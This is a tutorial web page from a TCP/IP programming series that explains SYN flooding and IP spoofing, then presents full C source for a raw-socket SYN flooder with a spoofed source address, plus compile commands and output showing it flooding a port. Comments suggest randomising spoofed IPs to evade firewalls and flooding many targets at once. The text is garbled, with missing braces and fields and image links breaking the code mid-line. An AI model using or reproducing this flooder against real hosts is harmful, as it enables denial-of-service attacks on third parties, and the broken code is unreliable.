|Winsock & .NET |Winsock | < The RAW Socket Examples |Linux/Unix OS Security Features > | Linux Socket Index |
















Network Story 1

Network Story 2

Network Story 3

Network Story 4Network Story 5

Network Story 6

Socket Example 1

Socket Example 2

Socket Example 3

Socket Example 4

Socket Example 5Socket Example 6

Socket Example 7

Advanced TCP/IP 1

Advanced TCP/IP 2

Advanced TCP/IP 3

Advanced TCP/IP 4

Advanced TCP/IP 5

This is a continuation from Part IV series, Advanced TCP/IP Programming Tutorial.  Working program examples if any compiled usinggcc, tested using the public IPs, run on Fedora Core 3, with several times of update, as root or SUID 0.  The Fedora machine used for the testing having the "No Stack Execute" disabled and the SELinux set to default configuration.


SYN Flag Flooding


By referring to the previous "three-way handshake" of the TCP, when the server gets a connection request, it sends a SYN-ACK to the spoofed IP address, normally doesn't exist.  The connection is made to time-out until it gets the ACK segment (often called a half-open connection).  Since the server connection queue resource is limited, flooding the server with continuous SYN segments can slow down the server or completely push it offline.  This SYN flooding technique involves spoofing the IP address and sending multipleSYN segments to a server.  In this case, a full tcp connection is never established.  We can also write a code, which sends a SYN packet with a randomly spoofed IP to avoid the firewall blocking.  This will result in all the entries in our spoofed IP list, sendingRST segments to the victim server, upon getting the SYN-ACK from the victim.  This can choke thetarget server and often form a crucial part of a Denial Of Service (DOS) attack.  When the attack is launched by many zombie hosts from various location, all target the same victim, it becomes Distributed DOS (DDOS).  In worse case this DOS/DDOS attack might be combined with other exploits such asbuffer overflow.  The DOS/DDOS attack also normally use transit hosts as launching pads for attack.  This means the attack maycome from a valid IP/Domain name and masking the real initiators.  The following is a program example that constantly sends out SYN requests to a host (Syn flooder).

[root@bakawali testraw]#cat synflood.c

#include <unistd.h>

#include <stdio.h>

#include <sys/socket.h>

#include <netinet/ip.h>

#include <netinet/tcp.h>


/* TCP flags, can define something like this if needed */#define URG 32

#define ACK 16

#define PSH 8

#define RST 4

#define SYN 2

#define FIN 1



struct ipheader {

 unsigned char      iph_ihl:5, /* Little-endian */


 unsigned char      iph_tos;

 unsigned short int iph_len;

 unsigned short int iph_ident;

 unsigned char      iph_flags;unsigned short int iph_offset;

 unsigned char      iph_ttl;

 unsigned char      iph_protocol;

 unsigned short int iph_chksum;

 unsigned int       iph_sourceip;

 unsigned int       iph_destip;


/* Structure of the TCP header */

struct tcpheader {

 unsigned short int   tcph_srcport;

 unsigned short int   tcph_destport;

 unsigned int             tcph_seqnum;unsigned int             tcph_acknum;

 unsigned char          tcph_reserved:4, tcph_offset:4;

 unsigned int

       tcp_res1:4,      /*little-endian*/

       tcph_hlen:4,     /*length of tcp header in 32-bit words*/

       tcph_fin:1,      /*Finish flag "fin"*/

       tcph_syn:1,       /*Synchronize sequence numbers to start a connection*/

       tcph_rst:1,      /*Reset flag */

       tcph_psh:1,      /*Push, sends data to the application*/

       tcph_ack:1,      /*acknowledge*/

       tcph_urg:1,      /*urgent pointer*/


 unsigned short int   tcph_win;

 unsigned short int   tcph_chksum;

 unsigned short int   tcph_urgptr;



/* function for header checksums */unsigned short csum (unsigned short *buf, int nwords)


  unsigned long sum;

  for (sum = 0; nwords > 0; nwords--)

    sum += *buf++;

  sum = (sum >> 16) + (sum & 0xffff);

  sum += (sum >> 16);

  return (unsigned short)(~sum);



int main(int argc, char *argv[ ])


  /* open raw socket */

int s = socket(PF_INET, SOCK_RAW, IPPROTO_TCP);

  /* this buffer will contain ip header, tcp header, and payload we'llpoint an ip header structure at its beginning, and a tcp header

    structure after that to write the header values into it */

char datagram[4096];

struct ipheader *iph = (struct ipheader *) datagram;

  struct tcpheader *tcph = (struct tcpheader *) datagram + sizeof (struct ipheader);

  struct sockaddr_in sin;


  if(argc != 3)


       printf("Invalid parameters!\n");

       printf("Usage: %s <target IP/hostname> <port to be flooded>\n", argv[0]);




  unsigned int floodport = atoi(argv[2]);

/* the sockaddr_in structure containingthe destination

 address is used in sendto() to determine the datagrams path */

sin.sin_family = AF_INET;

/* you byte-order >1byte header values to network byte

 order (not needed on big-endian machines). */

sin.sin_port = htons(floodport);

sin.sin_addr.s_addr = inet_addr(argv[1]);

   /* zero out the buffer */

   memset(datagram, 0, 4096);

   /* we'll now fill in the ip/tcp header values */

   iph->iph_ihl = 5;

   iph->iph_ver = 4;

iph->iph_tos = 0;

/* just datagram, no payload. You can add payload as needed */iph->iph_len = sizeof (struct ipheader) + sizeof (struct tcpheader);

/* the value doesn't matter here */

  iph->iph_ident = htonl (54321);

  iph->iph_offset = 0;

  iph->iph_ttl = 255;

iph->iph_protocol = 6;  // upper layer protocol, TCP

  /* set it to 0 before computing the actual checksum later */

iph->iph_chksum = 0;

/* SYN's can be blindly spoofed.  Better to create randomly

  generated IP to avoid blocking by firewall */

iph->iph_sourceip = inet_addr ("");

/* Better if we can create a range of destination IP,

  so we can flood all of them at the same time */

iph->iph_destip = sin.sin_addr.s_addr;

/* arbitrary port for source */

  tcph->tcph_srcport = htons (5678);

tcph->tcph_destport = htons (floodport);

/* in a SYN packet, the sequence is a random */tcph->tcph_seqnum = random();

/* number, and the ACK sequence is 0 in the 1st packet */

  tcph->tcph_acknum = 0;

  tcph->tcph_res2 = 0;

  /* first and only tcp segment */

tcph->tcph_offset = 0;

/* initial connection request, I failed to use TH_FIN,

  so check the tcp.h, TH_FIN = 0x02 or use #define TH_FIN 0x02*/

tcph->tcph_syn = 0x02;

/* maximum allowed window size */

tcph->tcph_win = htonl (65535);

  /* if you set achecksum to zero, your kernel's IP stack should

    fill in the correct checksum during transmission. */

  tcph->tcph_chksum = 0;

  tcph-> tcph_urgptr = 0;


  iph-> iph_chksum = csum ((unsigned short *) datagram, iph-> iph_len >> 1);


/* a IP_HDRINCL call, to make sure that the kernel knows

  the header is included in the data, and doesn't insert

  its own header into the packet before our data */

/* Some dummy */

int tmp = 1;

const int *val = &tmp;

if(setsockopt (s, IPPROTO_IP, IP_HDRINCL, val, sizeof(tmp)) < 0)


printf("Error: setsockopt() - Cannot set HDRINCL!\n");

/* If something wrong, just exit */




  printf("OK, using your own header!\n");


/* You have to manually stop this program */



  if(sendto(s,                      /* our socket */

           datagram,                /* the buffer containing headers and data */

           iph->iph_len,            /* total length of our datagram */0,                       /* routing flags, normally always 0 */

           (struct sockaddr *) &sin, /* socket addr, just like in */

           sizeof (sin)) < 0)        /* a normal send() */

     printf("sendto() error!!!.\n");


    printf("Flooding %s at %u...\n", argv[1],floodport);



  return 0;


[root@bakawali testraw]#gcc synflood.c -o synflood

[root@bakawali testraw]#./synflood

Invalid parameters!

Usage: ./synflood <target IP/hostname> <port to be flooded>

[root@bakawali testraw]# ./synflood   53

OK, using your own header!

Flooding at 53...

Flooding at 53...

Flooding at 53...

Flooding at 53...

Flooding at 53...


